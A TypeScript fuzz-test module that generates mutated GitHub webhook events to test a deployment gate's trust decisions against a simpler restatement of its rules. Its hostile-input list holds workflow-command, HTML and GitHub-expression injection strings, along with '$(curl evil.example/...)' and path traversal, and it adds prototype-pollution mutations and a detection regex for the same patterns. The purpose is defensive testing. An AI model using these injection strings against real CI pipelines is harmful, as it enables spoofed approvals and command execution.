/**
 * Hostile events, made from GitHub's own examples by deleting, nulling, retyping and swapping fields and by putting hostile
 * text into them; the answers that GitHub gives about each; and a second, naive statement of the rules to hold a verdict
 * against. Used in process and through the shipped bundle.
 */
import { createRequire } from 'node:module';
import {
  decide,
  githubOracle,
  parseTrustedApps,
  pullRequestNumber,
  type RunFacts,
  type Verdict,
  type Wishes,
} from '@guarded-deploy/access';
import { generator } from '@guarded-deploy/github-simulator/faults';
import { decisionLog, decisionSummary, type Surroundings } from '../src/summary.ts';

interface Dice {
  readonly random: () => number;
  readonly pick: <T>(items: readonly T[]) => T;
}

function dice(seed: number): Dice {
  const random = generator(seed);
  return { random, pick: items => items[Math.floor(random() * items.length)]! };
}

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
interface Example {
  readonly name: string;
  readonly examples: readonly Json[];
}

const examples = createRequire(import.meta.url)('@octokit/webhooks-examples') as readonly Example[];
/** The events with rules of their own come up more often than the dozens without. */
const RULED = [
  'push',
  'pull_request',
  'pull_request',
  'pull_request_target',
  'pull_request_review',
  'pull_request_review_comment',
  'issue_comment',
  'workflow_run',
  'workflow_dispatch',
  'repository_dispatch',
  'merge_group',
  'release',
  'schedule',
];

/** Whatever shows this shows text of the event. */
export const MARK = 'zzhostilezz';
const HOSTILE = [
  `${MARK}\n::error::owned`,
  `${MARK}\r\n::set-output name=decision::trusted`,
  `##[error]${MARK}`,
  `</code></details><img src=x onerror=${MARK}>`,
  `| ${MARK} | [click](https://evil.example) | @everyone`,
  `\`\`\`\n${MARK}\n\`\`\``,
  `$(curl evil.example/${MARK})`,
  `\${{ secrets.${MARK} }}`,
  `\u202e${MARK}\u0000`,
  `../../${MARK}`,
  'refs/heads/master',
  'Codertocat',
  'dependabot[bot]',
  'trusted',
  '0'.repeat(40),
  'a'.repeat(40),
  'A'.repeat(40),
  'x'.repeat(5000),
];

type Path = readonly (string | number)[];

function pathsOf(value: Json, prefix: Path = [], into: Path[] = []): Path[] {
  if (typeof value !== 'object' || value === null) return into;
  for (const key of Array.isArray(value) ? value.keys() : Object.keys(value)) {
    const path = [...prefix, key];
    into.push(path);
    pathsOf((value as Record<string | number, Json>)[key]!, path, into);
  }
  return into;
}

const DECISIVE =
  /sender|actor|user|owner|login|^id$|type|sha|after|ref|repo|head|base|deleted|action|commit|number|pull_request|workflow_run|merge_group|comment/;

/** What a decision shows or asks for. */
const NAMES = [
  'ref',
  'sender',
  'sender.login',
  'sender.id',
  'pull_request.user.login',
  'pull_request.head.ref',
  'pull_request.head.sha',
  'pull_request.head.repo.id',
  'pull_request.head.repo.full_name',
  'pull_request.head.repo.owner.login',
  'workflow_run.head_branch',
  'workflow_run.head_sha',
  'merge_group.head_ref',
  'comment.body',
];

function parentOf(root: Json, path: Path): Record<string | number, Json> {
  let current = root as Record<string | number, Json>;
  for (const key of path.slice(0, -1)) current = current[key] as Record<string | number, Json>;
  return current;
}

const get = (root: Json, path: Path) => parentOf(root, path)[path.at(-1)!]!;
const MUTATIONS = ['delete', 'null', 'retype', 'swap', 'hostile', 'graft', 'prototype'] as const;
type Mutation = (typeof MUTATIONS)[number];

function mutate(root: Json, kind: Mutation, { random, pick }: Dice): void {
  const all = pathsOf(root);
  const decisive = all.filter(path => DECISIVE.test(String(path.at(-1))));
  const named = all.filter(path => NAMES.includes(path.join('.')));
  const choose = () => {
    const dice = random();
    return pick(dice < 0.1 && named.length > 0 ? named : dice < 0.8 && decisive.length > 0 ? decisive : all);
  };
  if (all.length === 0) return;
  const path = choose();
  const parent = parentOf(root, path);
  const key = path.at(-1)!;
  switch (kind) {
    case 'delete':
      if (Array.isArray(parent)) parent.splice(Number(key), 1);
      else delete parent[key];
      return;
    case 'null':
      parent[key] = null;
      return;
    case 'retype': {
      const value = parent[key]!;
      parent[key] = pick<Json>([
        String(value),
        Number.MAX_SAFE_INTEGER,
        -1,
        1.5,
        0,
        true,
        false,
        [],
        [value],
        {},
        { login: value },
        typeof value === 'string' ? Number(value) || 7 : 'text',
      ]);
      return;
    }
    case 'swap': {
      const other = choose();
      // A value must not end up inside itself.
      const [long, short] = path.length > other.length ? [path, other] : [other, path];
      if (short.every((part, index) => part === long[index])) return;
      const [one, two] = [structuredClone(get(root, path)), structuredClone(get(root, other))];
      parentOf(root, path)[key] = two;
      parentOf(root, other)[other.at(-1)!] = one;
      return;
    }
    case 'hostile':
      parent[key] = pick(HOSTILE);
      return;
    case 'graft': {
      const donor = structuredClone(pick(pick(examples).examples));
      const from = pathsOf(donor).filter(candidate => candidate.at(-1) === key);
      if (from.length > 0) parent[key] = get(donor, pick(from));
      return;
    }
    case 'prototype':
      Object.defineProperty(parent, '__proto__', {
        value: { sender: { login: 'Codertocat', id: 21031067 }, deleted: false },
        enumerable: true,
        configurable: true,
        writable: true,
      });
  }
}

type Level = 'none' | 'read' | 'write' | 'maintain' | 'admin';
const RANK: Readonly<Record<Level, number>> = { none: 0, read: 1, write: 2, maintain: 3, admin: 4 };

/** Who has which right, for one case: login in lower case → id and right. GitHub knows nobody else. */
type World = ReadonlyMap<string, { readonly id: number; readonly level: Level }>;

/** What GitHub says to one kind of request. */
interface Reply {
  readonly status: number;
  readonly body: Json;
}

export interface HostileCase {
  readonly facts: RunFacts;
  readonly wishes: Wishes;
  readonly minimum: 'write' | 'maintain' | 'admin';
  /** Lines of `trusted-apps`. */
  readonly apps: readonly string[];
  readonly world: World;
  readonly pull: Reply;
  readonly activity: Reply;
  readonly rules: Reply;
  readonly mutations: readonly Mutation[];
}

function object(value: unknown, ...path: (string | number)[]): unknown {
  let current = value;
  for (const key of path) {
    if (current === null || current === undefined || !Object.hasOwn(Object(current), key)) return undefined;
    current = (current as Record<string | number, unknown>)[key];
  }
  return current;
}

interface Found {
  readonly login: string;
  readonly id: number;
  readonly bot: boolean;
}

/** Every account that is named anywhere. */
function peopleIn(value: Json, into: Map<string, Found> = new Map()): Map<string, Found> {
  if (typeof value !== 'object' || value === null) return into;
  if (!Array.isArray(value) && typeof value['login'] === 'string' && typeof value['id'] === 'number') {
    const { login, id } = value;
    into.set(login.toLowerCase(), { login, id, bot: value['type'] === 'Bot' || login.endsWith('[bot]') });
  }
  for (const child of Object.values(value)) if (typeof child === 'object') peopleIn(child, into);
  return into;
}

const record = (value: unknown) =>
  typeof value === 'object' && value !== null ? (value as Record<string, Json>) : undefined;

const APP: Json = { login: 'ci-app[bot]', id: 777, type: 'Bot' };

/** Turns an example into a kind that GitHub's own lack: forks, Apps as senders, comments on pull requests. */
function vary(payload: Json, pull: Json | undefined, { random, pick }: Dice): void {
  const subject = record(object(pull, 'head'));
  const author = record(object(pull, 'user'));
  if (subject && author && random() < 0.4) {
    const owner = structuredClone(author);
    subject['repo'] = { ...record(subject['repo']), id: 900_001, full_name: 'forker/portal', owner };
    if (random() < 0.5) record(payload)!['action'] = pick<Json>(['labeled', 'reopened', 'edited']);
  }
  const top = record(payload);
  if (top && object(top, 'sender') !== undefined && random() < 0.2) top['sender'] = APP;
}

function listedApps(people: ReadonlyMap<string, Found>, { random, pick }: Dice): string[] {
  const apps = [...people.values()].filter(({ bot }) => bot);
  const lines = apps
    .filter(() => random() < 0.6)
    .map(({ login, id }) =>
      random() < 0.7 ? `${login}:${id}` : random() < 0.5 ? login : `${login}:${id + 1}`,
    );
  // Also people, whom such a list must not raise, and Apps that have nothing to do with the event.
  if (random() < 0.2 && people.size > 0) lines.push(pick([...people.values()]).login);
  if (random() < 0.3) lines.push('dependabot[bot]');
  return lines.filter(line => /^[\w-]+(\[bot\])?(:\d+)?$/.test(line));
}

/** Mostly `body`; now and then a refusal, or something that is no answer. Nothing that a client would try again. */
function reply(body: Json, { random, pick }: Dice): Reply {
  const chance = random();
  if (chance < 0.04) return { status: pick([401, 403, 404]), body: { message: 'No' } };
  if (chance < 0.07) return { status: 200, body: pick<Json>([null, 'text', {}, [], [null], 7]) };
  return { status: 200, body };
}

/** An endless row of cases, the same for the same seed. */
export function* hostileCases(seed: number): Generator<HostileCase> {
  const die = dice(seed);
  const { random, pick } = die;
  const ruled = new Map(examples.map(example => [example.name, example.examples]));
  ruled.set('pull_request_target', ruled.get('pull_request')!);
  ruled.set('schedule', [{ schedule: '0 3 * * *' }]);
  const pulls = ruled.get('pull_request')!;

  for (;;) {
    const eventName = random() < 0.85 ? pick(RULED) : pick(examples).name;
    const original = structuredClone(pick(ruled.get(eventName)!));
    const pullInEvent = object(original, 'pull_request') as Json | undefined;
    const pullElsewhere = structuredClone(object(pick(pulls), 'pull_request') as Json);
    vary(original, pullInEvent ?? pullElsewhere, die);
    // The examples of comments are on issues; those on pull requests have this field.
    if (eventName === 'issue_comment' && random() < 0.7)
      record(object(original, 'issue'))!['pull_request'] = { url: 'https://api.github.com/' };
    const head = object(pullInEvent ?? pullElsewhere, 'head', 'sha');
    if (eventName === 'issue_comment' && random() < 0.4)
      record(object(original, 'comment'))!['body'] = `/test ${String(head)}`;

    const people = peopleIn([original, pullElsewhere]);
    const world: World = new Map(
      [...people].map(([login, { id }]) => [
        login,
        {
          // Some are somebody else under the same name.
          id: random() < 0.1 ? id + 1 : id,
          level:
            random() < 0.75 ? pick<Level>(['write', 'maintain', 'admin']) : pick<Level>(['none', 'read']),
        },
      ]),
    );

    // What the runner says cannot be shaped by the event's author, so it is taken before the mutations.
    const sender = object(original, 'sender');
    const actor = String(object(sender, 'login') ?? '');
    const again = random() < 0.1;
    const after = String(object(original, 'after'));
    const isPushed = eventName === 'push' && /^[0-9a-f]{40}$/.test(after) && !/^0+$/.test(after);
    const runner = {
      eventName,
      repository: String(object(original, 'repository', 'full_name') ?? 'acme/portal'),
      repositoryId: String(object(original, 'repository', 'id') ?? ''),
      sha: isPushed ? after : 'd4'.repeat(20),
      ref: eventName === 'push' ? String(object(original, 'ref')) : 'refs/heads/master',
      actor,
      actorId: String(object(sender, 'id') ?? ''),
      triggeringActor: again && people.size > 0 ? pick([...people.values()]).login : actor,
      runAttempt: again ? 2 : 1,
    };

    const payload = structuredClone(original);
    const mutations: Mutation[] = [];
    for (let left = Math.floor(random() * 5); left > 0; left -= 1) {
      const kind = pick(MUTATIONS);
      mutations.push(kind);
      mutate(payload, kind, die);
    }

    const dispatch = eventName.endsWith('_dispatch') && random() < 0.5;
    // The pull request that the API knows is a hostile one as well, now and then.
    if (random() < 0.2) mutate(pullElsewhere, pick(MUTATIONS), die);
    if (random() < 0.1) record(pullElsewhere)!['state'] = 'closed';
    else if (random() < 0.8) record(pullElsewhere)!['state'] = 'open';
    const pull = pick<Json>([pullElsewhere, pullElsewhere, pullElsewhere, payload, null]);
    const pushed = {
      after: String(random() < 0.85 ? head : 'e5'.repeat(20)),
      timestamp: pick(['2001-01-01T00:00:00Z', '2001-01-01T00:00:00Z', '2099-01-01T00:00:00Z', 'yesterday']),
    };
    const pusher = random() < 0.1 || people.size === 0 ? undefined : pick([...people.values()]);
    const owner = record(object(pullInEvent ?? pullElsewhere, 'head', 'repo', 'owner'));
    const entry: Json = {
      ...pushed,
      actor: owner && random() < 0.5 ? owner : pusher ? { login: pusher.login, id: pusher.id } : null,
    };
    yield {
      facts: { ...runner, payload },
      wishes: {
        // Inputs come through the environment, which carries no null bytes.
        commit: dispatch
          ? String(random() < 0.6 ? head : pick(['1f'.repeat(20), ...HOSTILE]))
              .replaceAll('\0', '')
              .slice(0, 100)
          : '',
        pullRequest: dispatch && random() < 0.7 ? 7 : undefined,
        pin: 'head',
      },
      minimum: random() < 0.8 ? 'write' : pick(['maintain', 'admin'] as const),
      apps: listedApps(people, die),
      world,
      pull: reply(pull, die),
      activity: reply(random() < 0.15 ? [] : [entry], die),
      rules: reply(
        [
          { type: 'deletion' },
          {
            type: 'pull_request',
            parameters: { required_approving_review_count: pick<Json>([0, 1, 1, 2, '2', null]) },
          },
        ],
        die,
      ),
      mutations,
    };
  }
}

/** GitHub's answer to a path of its API. */
export function answer(given: HostileCase, path: string): Reply {
  const login = /\/collaborators\/([^/]+)\/permission$/.exec(path)?.[1];
  if (login !== undefined) {
    const name = decodeURIComponent(login);
    const known = given.world.get(name.toLowerCase());
    if (known === undefined) return { status: 404, body: { message: 'Not Found' } };
    const { id, level } = known;
    return {
      status: 200,
      body: {
        permission: level === 'maintain' ? 'write' : level,
        role_name: level,
        user: { login: name, id },
      },
    };
  }
  if (/\/pulls\/\d+$/.test(path)) return given.pull;
  if (path.endsWith('/activity')) return given.activity;
  if (/\/rules\/branches\/[^/]+$/.test(path)) return given.rules;
  return { status: 404, body: { message: 'Not Found' } };
}

/** The decision in this process, with the paths that it asked for. */
export async function decideCase(given: HostileCase): Promise<{ verdict: Verdict; asked: string[] }> {
  const asked: string[] = [];
  const request = async (route: string, parameters: Record<string, unknown>) => {
    const path = route
      .replace(/^GET /, '')
      .replace(/\{(\w+)\}/g, (_, name: string) => encodeURIComponent(String(parameters[name])));
    asked.push(path);
    const { status, body } = answer(given, path);
    if (status !== 200) throw Object.assign(new Error(`HTTP ${status}`), { status });
    return { data: body };
  };
  const verdict = await decide(
    given.facts,
    given.wishes,
    { minimum: given.minimum, trustedApps: parseTrustedApps(given.apps) },
    githubOracle(request, given.facts.repository, new AbortController().signal),
  );
  return { verdict, asked };
}

/** What a summary of the case says beside the verdict. */
export function surroundingsOf({ facts, minimum }: HostileCase, verdict: Verdict): Surroundings {
  return {
    serverUrl: 'https://github.com',
    eventName: facts.eventName,
    repository: facts.repository,
    runId: 1,
    pullRequest: pullRequestNumber(facts.payload),
    environment: verdict.decision === 'trusted' ? 'test' : 'test-external',
    minimum,
  };
}

/** Summary and log lines of a verdict, as the action writes them. */
export function toldOf(given: HostileCase, verdict: Verdict): { summary: string; log: readonly string[] } {
  return { summary: decisionSummary(verdict, surroundingsOf(given, verdict)), log: decisionLog(verdict) };
}

/** Does Markdown hold something of the event that is more than text? */
export const speaksInSummary = (summary: string) =>
  /<img|<\/details>|^\s*::|##\[|\]\(https:\/\/evil|(^|[^&#\w])@everyone|\$\{\{|\u202e|\u0000/m.test(summary);

interface Mention {
  readonly login: string | undefined;
  readonly id: number | undefined;
  readonly bot: boolean;
}

function mentionOf(account: unknown): Mention {
  const login = object(account, 'login');
  const id = object(account, 'id');
  return {
    login: typeof login === 'string' ? login.toLowerCase() : undefined,
    id: typeof id === 'number' && id > 0 && Number.isSafeInteger(id) ? id : undefined,
    bot: object(account, 'type') === 'Bot' || (typeof login === 'string' && login.endsWith('[bot]')),
  };
}

const QUEUE = { login: 'github-merge-queue[bot]', id: 118344674 };
const ACTIONS = { login: 'github-actions[bot]', id: 41898282 };
const isPlatform = (mention: Mention, platform: { login: string; id: number }) =>
  mention.login === platform.login && (mention.id === undefined || mention.id === platform.id);
/** Ids of Apps that are known without being listed with one. */
const KNOWN_IDS: Readonly<Record<string, number>> = {
  [QUEUE.login]: QUEUE.id,
  [ACTIONS.login]: ACTIONS.id,
  'dependabot[bot]': 49699333,
  'renovate[bot]': 29139614,
  copilot: 198982749,
};

/** How a case came to be trusted at most, and for which commit; the rules once more, as plainly as possible. */
export interface Allowed {
  readonly sha: unknown;
  readonly by: 'permission' | 'app' | 'fork-activity' | 'queue' | 'schedule' | 'comment' | 'dispatch';
}

/** What may be trusted at all; undefined: nothing. */
export function allowedBy(given: HostileCase): Allowed | undefined {
  const { facts, world, minimum, wishes } = given;
  const p = facts.payload;
  const { eventName } = facts;
  if (eventName === 'schedule' && facts.runAttempt === 1) return { sha: facts.sha, by: 'schedule' };

  const runner = [
    mentionOf({ login: facts.actor, id: Number(facts.actorId) || undefined }),
    mentionOf({ login: facts.triggeringActor }),
  ];
  const mentions: Mention[] = [...runner, mentionOf(object(p, 'sender'))];
  let by = 'permission' as Allowed['by'];

  const trusted = (mention: Mention, all: readonly Mention[]) => {
    if (mention.login === undefined) return false;
    const same = all.filter(
      ({ login, id }) => (id !== undefined && id === mention.id) || login === mention.login,
    );
    const enough = (known: { level: Level } | undefined) =>
      known !== undefined && RANK[known.level] >= RANK[minimum];
    // An id says who it is, whatever the name beside it; only without one the name has to do.
    const permitted =
      mention.id === undefined
        ? enough(world.get(mention.login))
        : [...world.values()].some(known => known.id === mention.id && enough(known));
    if (!mention.bot && permitted) return true;
    if (!same.some(({ bot }) => bot)) return false;
    const ids = mention.id === undefined ? same.flatMap(({ id }) => id ?? []) : [mention.id];
    const listed = given.apps.some(line => {
      const [login = '', number] = line.toLowerCase().split(':');
      if (!same.some(other => other.login === login)) return false;
      const wanted = number === undefined ? KNOWN_IDS[login] : Number(number);
      return wanted === undefined ? login.endsWith('[bot]') : ids.includes(wanted);
    });
    if (listed) by = 'app';
    return listed;
  };
  const allTrusted = (all: readonly Mention[]) => all.every(mention => trusted(mention, all));
  // Whoever ran a scheduled run again, and nobody else, is behind it.
  if (eventName === 'schedule')
    return allTrusted([mentionOf({ login: facts.triggeringActor })]) ? { sha: facts.sha, by } : undefined;

  /** The first push of `sha` that the activity shows, if it could be read. */
  const pushOf = (sha: unknown, before = Number.POSITIVE_INFINITY) => {
    const { status, body } = given.activity;
    if (status !== 200 || !Array.isArray(body)) return undefined;
    return body.find(
      one =>
        object(one, 'after') === sha &&
        (before === Number.POSITIVE_INFINITY || Date.parse(String(object(one, 'timestamp'))) < before),
    );
  };

  /** The people of a pull request, and whether its code is in the base or answered for by the fork's owner. */
  const placed = (pull: unknown, senderPushed: boolean): boolean => {
    mentions.push(mentionOf(object(pull, 'user')));
    const [head, base] = [object(pull, 'head', 'repo', 'id'), object(pull, 'base', 'repo', 'id')];
    if (typeof head !== 'number' || typeof base !== 'number') return false;
    if (base !== object(p, 'repository', 'id')) return false;
    if (head === base) return true;
    const owner = object(pull, 'head', 'repo', 'owner');
    if (object(owner, 'type') !== 'User') return false;
    mentions.push(mentionOf(owner));
    if (senderPushed) return true;
    const pusher = mentionOf(object(pushOf(object(pull, 'head', 'sha')), 'actor'));
    if (pusher.id === undefined || !mentions.some(({ id }) => id === pusher.id)) return false;
    by = 'fork-activity';
    return true;
  };

  const id = object(p, 'repository', 'id');
  if (typeof id !== 'number' || (/^\d+$/.test(facts.repositoryId) && String(id) !== facts.repositoryId))
    return undefined;

  if (eventName.startsWith('pull_request')) {
    const pull = object(p, 'pull_request');
    const isReview = eventName.startsWith('pull_request_review');
    const pushing = !isReview && ['opened', 'synchronize'].includes(object(p, 'action') as string);
    if (eventName === 'pull_request_review') {
      mentions.push(mentionOf(object(p, 'review', 'user')));
      if (object(p, 'review', 'commit_id') !== object(pull, 'head', 'sha')) return undefined;
    }
    if (eventName === 'pull_request_review_comment') mentions.push(mentionOf(object(p, 'comment', 'user')));
    if (!placed(pull, pushing) || !allTrusted(mentions)) return undefined;
    return { sha: object(pull, 'head', 'sha'), by };
  }
  switch (eventName) {
    case 'push':
      if (object(p, 'deleted') === true || !allTrusted(mentions)) return undefined;
      if (String(object(p, 'ref')).startsWith('refs/tags/')) return { sha: facts.sha, by };
      return object(p, 'after') === facts.sha && object(p, 'ref') === facts.ref
        ? { sha: facts.sha, by }
        : undefined;
    case 'release':
      return allTrusted(mentions) ? { sha: facts.sha, by } : undefined;
    case 'workflow_dispatch':
    case 'repository_dispatch': {
      if (!allTrusted(mentions)) return undefined;
      if (wishes.commit === '' && wishes.pullRequest === undefined) return { sha: facts.sha, by };
      if (wishes.pullRequest !== undefined) {
        const { status, body } = given.pull;
        if (status !== 200 || object(body, 'state') !== 'open') return undefined;
        if (object(body, 'head', 'sha') !== wishes.commit) return undefined;
      }
      return { sha: wishes.commit, by: 'dispatch' };
    }
    case 'workflow_run': {
      const run = object(p, 'workflow_run');
      const origin = [mentionOf(object(run, 'actor')), mentionOf(object(run, 'triggering_actor'))];
      // GitHub's own account started this run in the name of those.
      const others = origin.every(({ login }) => login !== undefined)
        ? mentions.filter(mention => !isPlatform(mention, ACTIONS))
        : mentions;
      const isFirst = object(run, 'run_attempt') === 1;
      const scheduled = isFirst ? [] : origin.slice(1);
      const who = [...others, ...(object(run, 'event') === 'schedule' ? scheduled : origin)];
      if (!allTrusted(who)) return undefined;
      if (object(run, 'head_repository', 'id') !== id) return undefined;
      return { sha: object(run, 'head_sha'), by };
    }
    case 'merge_group': {
      if (!allTrusted(mentions.filter(mention => !isPlatform(mention, QUEUE)))) return undefined;
      const { status, body } = given.rules;
      if (status !== 200 || !Array.isArray(body)) return undefined;
      const count = (rule: Json) => object(rule, 'parameters', 'required_approving_review_count');
      if (
        !body.some(
          rule =>
            object(rule, 'type') === 'pull_request' &&
            Number(count(rule)) >= 1 &&
            typeof count(rule) === 'number',
        )
      )
        return undefined;
      return { sha: object(p, 'merge_group', 'head_sha'), by: 'queue' };
    }
    case 'issue_comment': {
      if (given.pull.status !== 200) return undefined;
      const pull = given.pull.body;
      const head = object(pull, 'head', 'sha');
      mentions.push(mentionOf(object(p, 'comment', 'user')));
      if (!record(object(p, 'issue', 'pull_request'))) return undefined;
      if (!placed(pull, false) || !allTrusted(mentions)) return undefined;
      const written = object(p, 'comment', 'body');
      const named = typeof written === 'string' ? (written.match(/\b[0-9a-f]{40}\b/g) ?? []) : [];
      const proven =
        named.length > 0
          ? named.every(sha => sha === head)
          : pushOf(head, Date.parse(String(object(p, 'comment', 'created_at')))) !== undefined;
      return proven ? { sha: head, by: by === 'fork-activity' ? by : 'comment' } : undefined;
    }
    default:
      return undefined;
  }
}
